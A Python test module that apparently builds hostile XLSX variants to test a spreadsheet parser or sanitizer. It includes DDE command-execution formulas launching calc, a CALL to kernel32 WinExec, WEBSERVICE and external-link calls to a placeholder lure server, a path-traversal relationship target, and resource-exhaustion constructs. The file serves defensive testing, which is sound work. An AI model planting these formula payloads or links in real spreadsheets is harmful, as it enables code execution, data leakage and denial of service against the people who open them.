"""Macros, links to elsewhere, objects, and formulas that call out."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tests.hostile.seeds import XLSX, Lures
from tests.hostile.xlsx_changes import BOOK, NUMBER, RELS, SHEET, STYLES, TYPES, after_rows, formula, related
from tests.hostile.zips import changed

_HONEST = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _link(number: int, kind: str, target: str, mode: str = "") -> str:
    place = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return f'<Relationship Id="rIdX{number}" Type="{place}{kind}" Target="{target}"{mode}/>'


def of_programs(lures: Lures) -> Iterator[tuple[str, bytes]]:
    """Macros, links to elsewhere, objects, formulas that call out."""
    yield (
        "macros",
        changed(
            XLSX,
            {
                "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 5_000,
                TYPES: lambda xml: xml.replace(_HONEST, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            },
        ),
    )
    elsewhere = ' TargetMode="External"'
    yield (
        "external-link",
        changed(
            XLSX,
            {
                "xl/externalLinks/externalLink1.xml": b"<externalLink "
                + _MAIN
                + b' xmlns:r="r"><externalBook r:id="rId1"/></externalLink>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + _link(1, "externalLinkPath", lures.server, elsewhere).encode()
                + b"</Relationships>",
                RELS: related(_link(7, "externalLink", "externalLinks/externalLink1.xml")),
                SHEET: after_rows(formula("[1]Sheet1!A1")),
            },
        ),
    )
    yield (
        "sheet-elsewhere",
        changed(
            XLSX,
            {
                RELS: lambda xml: re.sub(
                    rb'Target="[^"]*sheet1.xml"', lures.placed('Target="{server}" TargetMode="External"'), xml
                )
            },
        ),
    )
    yield (
        "sheet-file",
        changed(
            XLSX,
            {
                RELS: lambda xml: re.sub(
                    rb'Target="[^"]*sheet1.xml"', lures.placed('Target="../../../../../..{canary}"'), xml
                )
            },
        ),
    )
    yield (
        "sheet-itself",
        changed(XLSX, {RELS: lambda xml: re.sub(rb'Target="[^"]*sheet1.xml"', b'Target="workbook.xml"', xml)}),
    )
    for name, call in {
        "dde": "cmd|&apos; /C calc&apos;!A0",
        "dde-2": "DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)",
        "hyperlink": "HYPERLINK(&quot;{server}&quot;,&quot;x&quot;)",
        "webservice": "WEBSERVICE(&quot;{server}&quot;)",
        "image": "IMAGE(&quot;{server}&quot;)",
        "call": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;)",
        "indirect": "INDIRECT(A1)",
        "long": "1+" * 9_000 + "1",
        "nested": "IF(" * 5_000 + "1" + ")" * 5_000,
        "open": "SUM((((((",
        "brackets": "{" * 9_000,
    }.items():
        yield f"formula-{name}", changed(XLSX, {SHEET: after_rows(formula(lures.placed(call).decode()))})
    yield "formulas-uncached", changed(XLSX, {SHEET: lambda x: NUMBER.sub(rb'<c r="\2"><f>1+1</f>', x)})
    yield (
        "formulas-shared-astray",
        changed(XLSX, {SHEET: lambda x: NUMBER.sub(rb'<c r="\2"><f t="shared" si="9999"/><v>3</v>', x)}),
    )
    yield (
        "formulas-array-all",
        changed(
            XLSX,
            {SHEET: after_rows(b'<row r="91"><c r="A91"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c></row>')},
        ),
    )
    names = b"".join(b'<definedName name="n%d">n%d+1</definedName>' % (n, n + 1) for n in range(3_000))
    yield (
        "names-in-a-chain",
        changed(
            XLSX, {BOOK: lambda xml: xml.replace(b"</sheets>", b"</sheets><definedNames>" + names + b"</definedNames>")}
        ),
    )
    yield (
        "name-of-itself",
        changed(
            XLSX,
            {
                BOOK: lambda xml: xml.replace(
                    b"</sheets>",
                    b'</sheets><definedNames><definedName name="_xlnm.Print_Area" localSheetId="9999">a</definedName>'
                    b'<definedName name="a">a</definedName></definedNames>',
                )
            },
        ),
    )
    rule = (
        b'</sheetData><conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>'
        + b"A1+" * 5_000
        + b"1</formula></cfRule></conditionalFormatting>"
    )
    yield "rule-everywhere", changed(XLSX, {SHEET: lambda x: x.replace(b"</sheetData>", rule)})
    checks = (
        b"</sheetData><dataValidations>"
        + b'<dataValidation type="list" sqref="A1:A9"><formula1>INDIRECT("x")</formula1></dataValidation>' * 20_000
        + b"</dataValidations>"
    )
    yield "validations-many", changed(XLSX, {SHEET: lambda x: x.replace(b"</sheetData>", checks)})
    styles = b"<cellXfs>" + b'<xf numFmtId="0" fontId="99999" fillId="99999" borderId="-1"/>' * 60_000
    yield "styles-many", changed(XLSX, {STYLES: lambda x: re.sub(rb"<cellXfs[^>]*>", styles, x)})
